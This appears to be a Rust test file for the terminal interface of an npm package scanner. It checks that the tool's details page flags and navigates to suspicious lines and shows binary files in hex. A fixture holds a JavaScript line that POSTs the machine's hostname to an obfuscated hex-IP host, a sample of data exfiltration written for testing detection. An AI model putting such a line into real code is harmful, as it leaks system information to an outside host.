//! The page of details: what it lists and where its lines lead.

use cerebro::package::File;
use cerebro::syntax::Doc;
use cerebro::tui::state::Pane;

use super::case;
use super::harness::{Bench, Given};

/// An npm package whose one file talks to a host, with a host that is written oddly.
fn bench(width: u16, height: u16, code: &str) -> Bench {
    let mut package = case::package_of(vec![
        case::file("package/index.js", code),
        File { path: "package/tool".to_owned(), bytes: b"\x7fELF\x02\x01\x01\0".as_slice().into(), source: None },
    ]);
    package.entries.clear();
    let mut bench = Bench::open(width, height, Given::new(package));
    bench.settle();
    bench
}

#[test]
fn every_line_with_a_place_is_one_key_from_its_bytes() {
    let code =
        "// one\nconst os = require('os');\nfetch('http://0xcb007107/in', { method: 'POST', body: os.hostname() });\n";
    let mut bench = bench(150, 40, code);
    bench.keys("i G");
    bench.shows("I shows the table").shows("exfil");
    let mut seen = Vec::new();
    bench.keys("g");
    for _ in 0..20 {
        bench.keys("n");
        if bench.screen().contains("No more lines") {
            break;
        }
        bench.keys("enter");
        let state = &bench.bench.state;
        assert!(state.overlay.is_none() && state.focus == Pane::Source);
        let span = state.viewer.span.map(|span| &code[span.start..span.end]);
        seen.push((state.viewer.doc.unwrap(), span.map(str::to_owned)));
        // The page comes back where it was left.
        bench.keys("i");
    }
    assert!(seen.iter().any(|(doc, _)| *doc == Doc::File(1)), "{seen:?}");
}

#[test]
fn a_program_is_shown_by_its_bytes() {
    let mut bench = bench(150, 40, "let a = 1;\n");
    bench.keys("i G").shows("a Linux program or library (ELF)");
    let (x, y) = bench.find("a Linux program");
    bench.click(x, y).shows("7f 45 4c 46");
    assert!(bench.bench.state.viewer.hex && bench.bench.state.overlay.is_none());
}

#[test]
fn a_click_elsewhere_closes_the_page() {
    let mut bench = bench(150, 40, "let a = 1;\n");
    bench.keys("i").shows("Package").click(60, 3);
    assert!(bench.bench.state.overlay.is_none());
}
